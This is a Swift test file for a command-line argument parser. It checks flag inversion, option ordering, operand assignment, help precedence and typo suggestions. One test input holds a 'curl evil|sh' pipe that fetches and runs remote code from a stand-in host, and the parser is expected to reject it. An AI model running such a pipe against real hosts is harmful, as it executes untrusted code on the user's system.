import BallotArguments
import Testing

@Test func inversionsSwitchOff() {
  expect(
    SampleCommand.answers,
    [
      ("--tests", "tests"),
      ("--no-tests", "tests!"),
      ("--tests --no-tests", "@2 --no-tests again, @1"),
      ("--no-lists", "lists!"),
      ("--lists news", "lists=news"),
      ("--lists news --lists offers", "lists=news lists=offers"),
      ("--lists news --no-lists", "lists=news lists!"),
      ("--no-lists=news", "@1 --no-lists takes no news"),
      ("--no-lists news", "@2 unexpected news+0"),
      ("--no-env", "@1 unknown --no-env"),
      ("--no-no-tests", "@1 unknown --no-no-tests ?--no-tests"),
      ("--no-test", "@1 unknown --no-test ?--no-tests"),
      ("--no-", "@1 unknown --no- ?--no-tests"),
      ("--no-help", "@1 unknown --no-help"),
      ("--tests=on", "@1 --tests takes no on ?--no-tests"),
      ("--lists offer", "@2 --lists not offer ?offers"),
      ("--lists=", "@1 --lists not "),
    ])
}

@Test func repeatedOptionsFollowTheirPolicyAndKeepTheirOrder() {
  expect(
    SampleCommand.ballot,
    [
      ("form -o a -o b -o a", "form option=a option=b option=a"),
      ("form --pretty --no-pretty", "form pretty pretty!"),
      ("form --no-pretty -p", "form pretty! pretty"),
      ("form --min 1 --min 2", "@4 --min again, @2"),
      ("form --min 1 --min=2 --min 3", "@4 --min again, @2"),
      ("form --raw -r", "@3 -r again, @2"),
      ("form -rr", "@2 -r again, @2"),
      ("form -f raw --format json", "@4 --format again, @2"),
      (
        "form --radio a=A -o x -d x --toggle b=B -d on --radio c=C -o y",
        "form radio=a=A option=x default=x toggle=b=B default=on radio=c=C option=y"
      ),
      ("--color never radio p", "radio color=never | PROMPT=p"),
      ("--color never --color auto radio p", "@3 --color again, @1"),
      ("--color=never form --raw x", "form color=never raw | FILE=x"),
    ])
}

@Test func optionsStandAnywhereOrBeforeTheOperands() {
  expect(
    SampleCommand.ballot,
    [
      ("confirm -v Go?", "confirm verbose | PROMPT=Go?"),
      ("confirm Go? -v", "confirm verbose | PROMPT=Go?"),
      ("confirm -p Go? -v", "confirm pretty verbose | PROMPT=Go?"),
      ("form --raw x --pretty", "form raw pretty | FILE=x"),
      ("form x --format raw", "form format=raw | FILE=x"),
      ("radio -o a p", "radio option=a | PROMPT=p"),
      ("radio -o a p b c", "radio option=a | PROMPT=p OPTION=b OPTION=c"),
      ("radio p -o", "@3 -o after PROMPT"),
      ("radio p --default a", "@3 --default after PROMPT"),
      ("radio p --default=a b", "@3 --default=a after PROMPT"),
      ("radio p -a -b", "@3 -a after PROMPT; @4 -b after PROMPT"),
      ("radio p a --help", "@4 --help after PROMPT"),
      ("radio p -h", "@3 -h after PROMPT"),
      ("radio p a -", "radio | PROMPT=p OPTION=a OPTION=-"),
      ("radio p --options-command=curl·evil|sh", "@3 --options-command=curl evil|sh after PROMPT"),
      ("radio -o -x p", "radio option=-x | PROMPT=p"),
      ("radio '' a", "radio | PROMPT= OPTION=a"),
      ("choose p", "radio | PROMPT=p"),
    ])
}

@Test func operandsAreAssignedFromTheLeft() {
  expect(
    SampleCommand.ballot,
    [
      ("confirm p", "confirm | PROMPT=p"),
      ("confirm ''", "confirm | PROMPT="),
      ("confirm", "missing PROMPT"),
      ("confirm Delete all files", "@3 unexpected all+1"),
      ("radio", "missing PROMPT"),
      ("radio p", "radio | PROMPT=p"),
      ("radio p a b", "radio | PROMPT=p OPTION=a OPTION=b"),
      ("form", "form"),
      ("form x", "form | FILE=x"),
      ("form x y", "@3 unexpected y+0"),
      ("form --radio env=Deploy to here", "@5 unexpected here+0"),
      ("completions bash", "completions | SHELL=bash"),
      ("completions bash x", "completions | SHELL=bash FILE=x"),
      ("completions bas", "@2 SHELL not bas ?bash"),
      ("completions powershell", "@2 SHELL not powershell"),
      ("completions", "missing SHELL"),
      ("preview x", "@2 unexpected x+0; missing --keys"),
      ("internal", "internal"),
    ])
  let copy = CommandDeclaration(
    "copy",
    operands: [
      OperandDeclaration("FIRST", .optional), OperandDeclaration("FROM", .many),
      OperandDeclaration("TO"),
    ])
  expect(
    copy,
    [
      ("", "missing TO"),
      ("a", " | TO=a"),
      ("a b", " | FIRST=a TO=b"),
      ("a b c", " | FIRST=a FROM=b TO=c"),
      ("a b c d", " | FIRST=a FROM=b FROM=c TO=d"),
    ])
}

@Test func restIsPassedThroughAsItCame() {
  expect(
    SampleCommand.ballot,
    [
      ("form x --", "form | FILE=x | "),
      ("form x -- --env prod", "form | FILE=x | --env prod"),
      ("form -- --env=prod -- -x", "form |  | --env=prod -- -x"),
      ("form -- --help", "form |  | --help"),
      ("form x -- -h --format nonsense", "form | FILE=x | -h --format nonsense"),
      ("form x --raw -- y", "form raw | FILE=x | y"),
      ("form x --formt -- --env", "@3 unknown --formt ?--format"),
    ])
}

@Test func answerFlagsAreParsedByTheFormsOwnDeclaration() {
  expect(
    SampleCommand.answers,
    [
      ("", ""),
      ("--env prod --tests", "env=prod tests"),
      ("--env=prod", "env=prod"),
      ("--env Prod", "@2 --env not Prod ?prod"),
      ("--env stagign", "@2 --env not stagign ?staging"),
      ("--env production", "@2 --env not production ?prod"),
      ("--env qa", "@2 --env not qa"),
      ("--evn prod", "@1 unknown --evn ?--env"),
      ("--en prod", "@1 unknown --en ?--env"),
      ("--Env prod", "@1 unknown --Env ?--env"),
      ("--environment prod", "@1 unknown --environment ?--env"),
      ("env=prod", "@1 unexpected env=prod+0"),
      ("--help --env qa", "help"),
    ])
}

@Test func helpAndVersionAreResultsAndWinOverFaults() {
  expect(
    SampleCommand.ballot,
    [
      ("--help", "help"),
      ("-h", "help"),
      ("--version", "version"),
      ("--help --version", "help"),
      ("--version --help", "help"),
      ("--help radio", "help radio"),
      ("radio --help", "help radio"),
      ("radio -h", "help radio"),
      ("radio -vh", "help radio"),
      ("radio --nonsense --help", "help radio"),
      ("radio --help --nonsense", "help radio"),
      ("radio --format bad --help", "help radio"),
      ("radio --help p -x", "help radio"),
      ("choose --help", "help radio"),
      ("confirm Go? --help", "help confirm"),
      ("confirm a b c --help", "help confirm"),
      ("preview -h", "help preview"),
      ("radoi --help", "help"),
      ("radoi -- --help", "@1 no command radoi ?radio"),
      ("form -- --help", "form |  | --help"),
      ("form --option --help", "form option=--help"),
      ("--version nonsense", "version"),
      ("--color bad --version", "version"),
      ("help", "help"),
      ("help radio", "help radio"),
      ("help choose", "help radio"),
      ("help help", "help help"),
      ("help internal", "help internal"),
      ("help radoi", "@2 no command radoi ?radio"),
      ("help radio x", "@3 no command x"),
      ("help --bogus radio", "@2 unknown --bogus"),
    ])
}

@Test func mistypedWordsAreNotGuessedButSuggested() {
  expect(
    SampleCommand.ballot,
    [
      ("", "no command"),
      ("radoi", "@1 no command radoi ?radio"),
      ("Radio p", "@1 no command Radio ?radio"),
      ("rad p", "@1 no command rad ?radio"),
      ("xyz", "@1 no command xyz"),
      ("''", "@1 no command "),
      ("interna", "@1 no command interna"),
      ("conifrm p", "@1 no command conifrm ?confirm"),
      ("--colr never radio p", "@1 unknown --colr ?--color"),
      ("--colr=never radio p", "@1 unknown --colr ?--color"),
      ("--colour never radio p", "@1 unknown --colour ?--color"),
      ("--format json radio p", "@1 unknown --format"),
      ("form --form raw", "@2 unknown --form ?--format"),
      ("form --opt x", "@2 unknown --opt ?--option"),
      ("form --options x", "@2 unknown --options ?--option"),
      ("form --Raw", "@2 unknown --Raw ?--raw"),
      ("form --RAW", "@2 unknown --RAW ?--raw"),
      ("form --optoin x", "@2 unknown --optoin ?--option"),
      ("form --secrets x", "@2 unknown --secrets"),
      ("form --secret x", "form secret=x"),
      ("form --zzzzzz", "@2 unknown --zzzzzz"),
      ("form -raw", "@2 unknown -raw ?--raw"),
      ("form -option", "form option=ption"),
      ("form -min 3", "@2 unknown -min ?--min"),
      ("form ---raw", "@2 unknown ---raw ?--raw"),
      ("form --format RAW", "@3 --format not RAW ?raw"),
      ("form --format rwa", "@3 --format not rwa ?raw"),
      ("form --format sh", "@3 --format not sh ?shell"),
      ("form --format yaml", "@3 --format not yaml"),
      ("--color sometimes radio p", "@2 --color not sometimes"),
    ])
}

@Test func everyFaultIsReportedInOneGo() {
  expect(
    SampleCommand.ballot,
    [
      (
        "radio --formt raw --min 1 --min 2 --format xml",
        "@2 unknown --formt ?--format; @6 --min again, @4; @9 --format not xml"
      ),
      ("form --raw --format json", "@2 --raw or --format"),
      ("form --format json --raw --raw", "@4 --raw or --format; @5 --raw again, @4"),
      ("preview", "missing --keys"),
      ("preview --keys", "@2 --keys needs KEYS"),
      ("preview --keys a --folder", "@4 --folder needs FOLDER"),
      ("--color bad confirm --bad=1", "@2 --color not bad; @4 unknown --bad; missing PROMPT"),
      ("--color bad", "@2 --color not bad"),
      ("confirm -z -y a b c", "@2 unknown -z; @3 unknown -y"),
      ("confirm --z a b", "@2 unknown --z"),
    ])
}
